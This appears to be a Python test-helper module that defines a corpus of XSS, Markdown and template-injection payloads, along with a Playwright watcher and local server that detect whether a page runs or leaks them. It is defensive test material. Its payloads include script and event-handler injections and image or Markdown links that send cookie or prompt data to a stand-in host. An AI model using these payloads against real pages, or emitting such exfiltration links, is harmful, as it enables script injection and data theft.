"""Texts that try to be more than text, and a watch that notices when a page lets one of them.

Every text that runs prints `canary` on the browser's console. It puts the word together first, so that a page or a
message that merely shows the text does not count. Elements that a text brings along carry the attribute `data-planted`.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from typing import TYPE_CHECKING
from urllib.parse import unquote, urlsplit

from tests.answering import answering

if TYPE_CHECKING:
    from playwright.sync_api import Frame, Page  # pyright: ignore[reportMissingImports]

CANARY = "canary"
RUN = "console.log('can'+'ary')"
OUTSIDE = "outside.invalid"
"""A host that cannot exist: a request to it is noticed and reaches nobody."""
POLICY = "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"

HTML = {
    "script": f"<script data-planted>{RUN}</script>",
    "script after closing tags": f"</title></style></textarea></script><script data-planted>{RUN}</script>",
    "script after a comment": f"--><script data-planted>{RUN}</script><!--",
    "script with a foreign source": f'<script data-planted src="http://{OUTSIDE}/x.js"></script>',
    "attribute that is closed": f'"\'><script data-planted>{RUN}</script><p title="',
    "broken image": f'<img data-planted src=x: onerror="{RUN}">',
    "image without a closing bracket": f'<img data-planted src=x: onerror="{RUN}" ',
    "image of a foreign host": f'<img data-planted src="http://{OUTSIDE}/leak?cookie=1">',
    "image with a set of sources": f'<img data-planted srcset="http://{OUTSIDE}/leak 1x">',
    "event when the body loads": f'<body data-planted onload="{RUN}"><img data-planted src=x: onerror="{RUN}">',
    "focus without a click": f'<input data-planted autofocus onfocus="{RUN}">',
    "details that toggle": f'<details data-planted open ontoggle="{RUN}">x</details>',
    "video without a source": f'<video data-planted><source onerror="{RUN}"></video>',
    "SVG that loads": f'<svg data-planted onload="{RUN}"></svg>',
    "SVG with a script": f"<svg data-planted><script>{RUN}</script></svg>",
    "SVG with HTML inside": f'<svg><foreignObject><img data-planted src=x: onerror="{RUN}"></foreignObject></svg>',
    "SVG that is animated": f'<svg data-planted><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    "MathML with HTML inside": f'<math><annotation-xml encoding="text/html"><img data-planted src=x: onerror="{RUN}">',
    "frame with a document": f'<iframe data-planted srcdoc="<script>{RUN}</script>"></iframe>',
    "frame with a data address": f'<iframe data-planted src="data:text/html,<script>{RUN}</script>"></iframe>',
    "frame with a script address": f'<iframe data-planted src="javascript:{RUN}"></iframe>',
    "object with a data address": f'<object data-planted data="data:text/html,<script>{RUN}</script>"></object>',
    "embedded document": f'<embed data-planted src="data:text/html,<script>{RUN}</script>">',
    "refresh to elsewhere": f'<meta data-planted http-equiv="refresh" content="0;url=http://{OUTSIDE}/">',
    "base of all addresses": f'<base data-planted href="http://{OUTSIDE}/"><img src="leak">',
    "style from elsewhere": f'<link data-planted rel="stylesheet" href="http://{OUTSIDE}/x.css">',
    "style with a background": f"<style data-planted>body{{background:url(http://{OUTSIDE}/leak)}}</style>",
    "style attribute": f'<p data-planted style="background:url(http://{OUTSIDE}/leak)">x</p>',
    "style with an expression": f'<p data-planted style="width:expression({RUN});color:url(javascript:{RUN})">x</p>',
    "form that asks for a password": f'<form data-planted action="http://{OUTSIDE}/"><input type=password></form>',
    "link that runs": f'<a data-planted href="javascript:{RUN}">x</a>',
    "link that runs, written in entities": f'<a data-planted href="&#106;avascript&colon;{RUN}">x</a>',
    "link to a data address": f'<a data-planted href="data:text/html,<script>{RUN}</script>">x</a>',
}
MARKDOWN = {
    "Markdown image": f"![x](http://{OUTSIDE}/leak?prompt=1)",
    "Markdown image by reference": f"![x][leak]\n\n[leak]: http://{OUTSIDE}/leak",
    "Markdown image in a link": f"[![x](http://{OUTSIDE}/leak)](http://{OUTSIDE}/)",
    "Markdown link that runs": f"[x](javascript:{RUN})",
    "Markdown link in brackets": f"[x](<javascript:{RUN}>)",
    "Markdown link in entities": f"[x](&#106;avascript&colon;{RUN})",
    "Markdown link by reference": f"[x]\n\n[x]: javascript:{RUN}",
    "Markdown autolink": f"<javascript:{RUN.replace(' ', '')}>",
    "fence that closes": f"```\n~~~\n````\n\n![x](http://{OUTSIDE}/leak)\n<script data-planted>{RUN}</script>\n",
    "code that closes": f"` `` ![x](http://{OUTSIDE}/leak) <img data-planted src=x: onerror={RUN}>",
    "cell that closes": f"x | ![x](http://{OUTSIDE}/leak) |\n| y |",
    "escape that is escaped": f"\\![x](http://{OUTSIDE}/leak) \\\\![x](http://{OUTSIDE}/leak) \\<b data-planted>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; ![x](http&colon;//{OUTSIDE}/leak)",
    "lines that end in many ways": f"x\r![x](http://{OUTSIDE}/leak)\u2028<script data-planted>{RUN}</script>\x0b\x0cy",
}
"""What a reader of Markdown obeys; most of them let HTML through as well."""
PLAIN = {
    "address without mark-up": f"see http://{OUTSIDE}/page and www.{OUTSIDE}, or write to root@{OUTSIDE}",
    "template of Jinja": "{{ 7*7 }}{% raw %}{# x #}{{ ti.xcom_pull() }}{{ ''.__class__ }}",
    "template of JavaScript": "${7*7}#{7*7}<%= 7*7 %>",
    "text that turns round": "abc\u202e)fed\u2066ghi",
    "control characters": "a\x00b\x07c\x1b[31md\x7fe\x85f\ufeffg",
    "half a character": "a\ud800b\udfffc",
    "long word": "W" * 5_000,
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f e\u0301",
    "heading": "# heading\n---\n- [ ] item\n> quote\n1. one",
    "no text": "",
}
"""What does no harm by itself and must arrive as it is, or be replaced by something that can be seen."""
TEXTS = {**HTML, **MARKDOWN, **PLAIN}

_FROM_THE_START = """
document.addEventListener('securitypolicyviolation', event =>
    console.log('policy violated: ' + event.effectiveDirective + ' by ' + event.blockedURI), true)
"""


@dataclass
class Watch:
    """What happened on a page and in its frames, from the start of the first document."""

    page: Page
    own_hosts: frozenset[str]
    ran: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)

    def open(self, address: str, *, wait_ms: int = 150) -> None:
        """Open a page and give it the time that a text would need."""
        self.page.goto(address, wait_until="load")
        self.page.wait_for_timeout(wait_ms)

    def faults(self) -> list[str]:
        """All that a text must never bring about; empty on a page that only shows."""
        found = [*self.ran, *self.violations, *self.outside]
        for frame in self.page.frames:
            found += _obeyed(frame)
        return found

    def note_request(self, address: str) -> None:
        parts = urlsplit(address)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.hostname not in self.own_hosts:
            self.outside.append(f"request to {address[:200]}")

    def note_console(self, text: str) -> None:
        if text == CANARY:
            self.ran.append("a script ran")
        elif text.startswith("policy violated") or "Content Security Policy" in text:
            self.violations.append(text[:300])


def _obeyed(frame: Frame) -> list[str]:
    """Elements of the texts, and links that run or lead out; those to tables as base64 are the report's own."""
    try:
        return frame.evaluate(
            """outside => [
                ...[...document.querySelectorAll('[data-planted]')].map(found => 'element ' + found.outerHTML),
                ...[...document.querySelectorAll('a, area, form, iframe, object, img')].flatMap(found =>
                    ['href', 'xlink:href', 'action', 'src', 'data'].map(name => found.getAttribute(name) || '')
                    .filter(value => !/^data:text\\/csv;charset=utf-8;base64,[A-Za-z0-9+\\/=]*$/.test(value))
                    .filter(value => /^\\s*(javascript|data:text|vbscript):?/i.test(value) || value.includes(outside))
                    .map(value => found.tagName + ' to ' + value.slice(0, 200)))]""",
            OUTSIDE,
        )
    except Exception as error:  # noqa: BLE001 - a frame that went away, or shows another site's error page
        return [] if "detached" in str(error) else [f"a frame cannot be looked at: {str(error)[:200]}"]


def watch(page: Page, *own_hosts: str) -> Watch:
    """Look at all that a page does from now on; requests to other hosts than these are faults."""
    seen = Watch(page, frozenset({"127.0.0.1", "localhost", *own_hosts}))
    page.context.add_init_script(_FROM_THE_START)
    page.on("console", lambda message: seen.note_console(message.text))
    page.on("pageerror", lambda error: seen.note_console(str(error)))
    page.on("request", lambda request: seen.note_request(request.url))
    page.on("websocket", lambda socket: seen.note_request(socket.url))

    def ask(dialog) -> None:
        seen.ran.append(f"a dialog: {dialog.message[:100]}")
        dialog.dismiss()

    page.on("dialog", ask)
    page.on("popup", lambda popup: seen.ran.append(f"a window to {popup.url[:100]}"))
    return seen


@dataclass(frozen=True)
class Served:
    """One document and the policy that its server sends with it, "" for none."""

    body: str
    kind: str = "text/html"
    policy: str = ""


@contextmanager
def serve(documents: Mapping[str, Served]) -> Iterator[str]:
    """A server on a free port of loopback; `documents` by name may grow while it runs."""

    class Documents(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found = documents.get(unquote(self.path).lstrip("/"))
            body = found.body.encode() if found else b""
            self.send_response(200 if found else 404)
            self.send_header("Content-Type", f"{found.kind if found else 'text/plain'}; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            if found and found.policy:
                self.send_header("Content-Security-Policy", found.policy)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None: ...

    with answering(Documents) as url:
        yield url
